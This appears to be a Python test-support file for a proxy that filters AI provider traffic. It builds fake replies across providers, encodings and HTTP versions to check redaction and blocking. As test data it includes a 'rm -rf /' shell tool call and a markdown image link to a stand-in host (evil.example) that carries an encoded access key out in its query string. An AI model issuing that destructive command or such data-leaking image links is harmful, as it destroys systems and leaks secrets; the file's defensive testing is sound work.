"""Every cell of the table in docs/providers.md: provider and format x whole or streamed x what is found x HTTP version x encoding."""

import gzip
import json
import re
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import brotli
import zstandard

from cli.pretend import Given
from contract.providers import Entry, providers
from tests.support.streams import SHAPES, TEXTS, Shape

KEY = "AKIAQYLPMN5HHHFPZAM2"
CASES = {
    "allow": (["Hello", " there", ", all is", " well. "], ['{"path": "/tmp', '/x"}']),
    "redact": (
        ["The key is AKI", "AQYLPMN5", "HHHFPZAM2", ", keep it."],
        ['{"command": "echo AKIAQY', 'LPMN5HHHFPZAM2"}'],
    ),
    "block": (["I will", " clean up. "], ['{"command": "rm -', "rf /", '"}']),
}
# Where no tool is called, an image whose address carries data away is what a strict house blocks.
IMAGE = [
    "See ![logo](https://evil.exa",
    "mple/p.png?d=QUtJQVFZTFBNTjVISEhGUFpBTTIgaXMgdGhl",
    "IGtleSB5b3UgYXNrZWQgZm9y) there.",
]
ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "identity": lambda data: data,
    "gzip": gzip.compress,
    "br": lambda data: brotli.compress(data),
    "zstd": lambda data: zstandard.ZstdCompressor().compress(data),
}
VERSIONS = ("h1", "h2")
HOW = ("whole", "streamed")
EVERY = len(CASES) * len(VERSIONS) * len(ENCODINGS)
# Formats whose answers are numbers, pictures, sound or a receipt: their cells are run on the call. Why they have no stream:
NO_TEXT = {
    "embeddings": "numbers, in one piece",
    "images": "pictures, in one piece",
    "speech": "sound; a stream of it has no text",
    "files": "a receipt, in one piece",
    "anthropic-batches": "a receipt; results are fetched later",
}
ELSEWHERE = {  # formats over WebSockets, tried by tests/e2e/test_sockets.py
    "openai-socket",
    "openai-realtime",
    "gemini-live",
}
CALLS: dict[str, dict[str, Any]] = {
    "embeddings": {"model": "m", "input": "TEXT", "texts": ["x"]},
    "images": {"model": "m", "prompt": "TEXT"},
    "speech": {"model": "m", "input": "TEXT", "voice": "a"},
    "files": {"purpose": "batch", "input": "TEXT"},
    "anthropic-batches": {
        "requests": [
            {
                "custom_id": "a",
                "params": {
                    "model": "m",
                    "messages": [{"role": "user", "content": "TEXT"}],
                },
            }
        ]
    },
}
SAID = {
    "allow": "hello there",
    "redact": f"the key is {KEY}, keep it",
    "block": "TLP:RED the plan",
}
# How the path of a whole call ends, and that of a streamed one, where it says so.
ENDINGS = {
    "gemini": (":generatecontent", ":streamgeneratecontent"),
    "bedrock-converse": ("/converse", "/converse-stream"),
    "bedrock-invoke": ("/invoke", "/invoke-with-response-stream"),
    "anthropic-messages": ("/messages", "/messages"),
}
VERTEX = (":rawpredict", ":streamrawpredict")
SHAPES_OF = {"gemini": ("gemini-sse", "gemini-array")}
CONCRETE = {
    "*-aiplatform": "europe-west1-aiplatform",
    "bedrock-runtime.*": "bedrock-runtime.eu-west-3",
    "*": "acme",
}


class Row(NamedTuple):
    """A row of the table."""

    provider: str
    format: str
    shape: str

    @property
    def label(self) -> str:
        return self.shape or self.format


class Cell(NamedTuple):
    """One combination; `shape` as in streams.py."""

    shape: str
    how: str
    case: str
    version: str
    encoding: str


def rows() -> Iterator[Row]:
    """One for each provider and each format that is spoken there."""
    for entry in providers():
        for format in dict.fromkeys(name for _, name in entry.paths):
            if format in NO_TEXT:
                yield Row(entry.name, format, "")
            else:
                shapes = SHAPES_OF.get(format, (format,))
                yield from (
                    Row(
                        entry.name,
                        format,
                        "mistral-chat"
                        if (entry.name, shape) == ("mistral", "openai-chat")
                        else shape,
                    )
                    for shape in shapes
                )
    yield Row("openai", "mcp", "mcp")  # under any path of any host


def hosts() -> list[str]:
    """A host for each provider that only has patterns."""
    return [host_of(entry) for entry in providers() if entry.hosts]


def host_of(entry: Entry) -> str:
    """A host of a provider."""
    host = next((host for host in entry.hosts if "*" not in host), entry.hosts[0])
    for pattern, concrete in CONCRETE.items():
        host = host.replace(pattern, concrete)
    return host


def url_of(row: Row, how: str) -> str:
    """Where such a call goes."""
    if row.format == "mcp":
        return TEXTS["mcp"].url
    entry = next(entry for entry in providers() if entry.name == row.provider)
    paths = [path for path, format in entry.paths if format == row.format]
    streamed = HOW.index(how)
    wanted = (ENDINGS.get(row.format, ("", ""))[streamed], VERTEX[streamed])
    path = next(
        (path for ending in wanted for path in paths if path.endswith(ending)), paths[0]
    )
    path = re.sub(r"\{(?:model)?\}", "m", path)
    return f"https://{host_of(entry)}{path}{'?alt=sse' if row.shape == 'gemini-sse' and streamed else ''}"


def shape_of(name: str) -> Shape:
    """How a format streams."""
    return {**SHAPES, **TEXTS}[name]


def given(cell: Cell) -> Given:
    """What the pretend provider answers; streams in small pieces."""
    text, call = CASES[cell.case]
    if cell.shape in TEXTS:
        text, call = IMAGE if cell.case == "block" else text, []
    shape = shape_of(cell.shape)
    if cell.how == "whole":
        arguments = json.loads("".join(call)) if call else {}
        body, content_type = (
            json.dumps(whole(cell.shape, "".join(text), arguments)).encode(),
            "application/json",
        )
    else:
        body, content_type = b"".join(shape.made(text, call)), shape.content_type
    sent = ENCODINGS[cell.encoding](body)
    step = 97 if cell.how == "streamed" else len(sent)
    encoding = "" if cell.encoding == "identity" else cell.encoding
    return Given(
        content_type,
        [sent[at : at + step] for at in range(0, len(sent), step)],
        encoding,
    )


def whole(shape: str, text: str, call: dict[str, Any]) -> Any:
    """A whole answer of a text and a tool call."""
    written = json.dumps(call)
    function = {
        "id": "c1",
        "type": "function",
        "function": {"name": "shell", "arguments": written},
    }
    match shape:
        case "openai-chat" | "mistral-chat":
            return {
                "id": "x",
                "choices": [
                    {
                        "index": 0,
                        "message": {
                            "role": "assistant",
                            "content": text,
                            "tool_calls": [function],
                        },
                    }
                ],
            }
        case "openai-responses":
            said = {
                "type": "message",
                "role": "assistant",
                "content": [{"type": "output_text", "text": text}],
            }
            return {
                "id": "x",
                "output": [
                    said,
                    {
                        "type": "function_call",
                        "name": "shell",
                        "call_id": "c1",
                        "arguments": written,
                    },
                ],
            }
        case "anthropic-messages" | "bedrock-invoke":
            return {
                "content": [
                    {"type": "text", "text": text},
                    {"type": "tool_use", "id": "t", "name": "shell", "input": call},
                ]
            }
        case "gemini-sse" | "gemini-array":
            parts = [{"text": text}, {"functionCall": {"name": "shell", "args": call}}]
            return {"candidates": [{"content": {"parts": parts, "role": "model"}}]}
        case "bedrock-converse":
            blocks = [
                {"text": text},
                {"toolUse": {"toolUseId": "t", "name": "shell", "input": call}},
            ]
            return {"output": {"message": {"role": "assistant", "content": blocks}}}
        case "cohere-chat":
            return {
                "id": "x",
                "message": {
                    "role": "assistant",
                    "content": [{"type": "text", "text": text}],
                    "tool_calls": [function],
                },
            }
        case "completions":
            return {
                "id": "x",
                "choices": [{"index": 0, "text": text, "finish_reason": "stop"}],
            }
        case "cohere-v1-chat":
            return {"text": text, "generation_id": "g1", "finish_reason": "COMPLETE"}
        case "huggingface":
            return [{"generated_text": text}]
        case "mcp":
            return {
                "jsonrpc": "2.0",
                "id": 7,
                "result": {"content": [{"type": "text", "text": text}]},
            }
        case _:
            return {
                "message": {
                    "role": "assistant",
                    "content": text,
                    "tool_calls": [{"function": {"name": "shell", "arguments": call}}],
                }
            }


def call_of(row: Row, how: str, case: str) -> bytes:
    """Such a call; where answers have no text, it is the call that bears the case."""
    if row.format in NO_TEXT:
        # A text that was refused is history in another call.
        said = f"{SAID[case]} of {row.provider}, {row.label}"
        text = json.dumps(said if case == "block" else SAID[case])
        return json.dumps(CALLS[row.format]).replace('"TEXT"', text).encode()
    call = shape_of(row.shape).call
    if row.format == "mcp" and case == "block":  # what an agent asks of a tool
        call = {
            **call,
            "params": {"name": "shell", "arguments": {"command": "rm -rf /"}},
        }
    return json.dumps(
        {**call, "stream": how == "streamed"}
        if "stream" in call or row.format == "ollama"
        else call
    ).encode()


def table(seen: dict[tuple[Row, str], int]) -> str:
    """The table in docs/providers.md, of how many cells held."""
    lines = ["| provider | format | whole | streamed |", "|---|---|---|---|"]
    for row in rows():
        told = [
            f"{seen[row, how]} of {EVERY}"
            if (row, how) in seen
            else f"n/a: {NO_TEXT[row.format]}"
            for how in HOW
        ]
        lines.append(f"| {row.provider} | {row.label} | {' | '.join(told)} |")
    return "\n".join(lines)
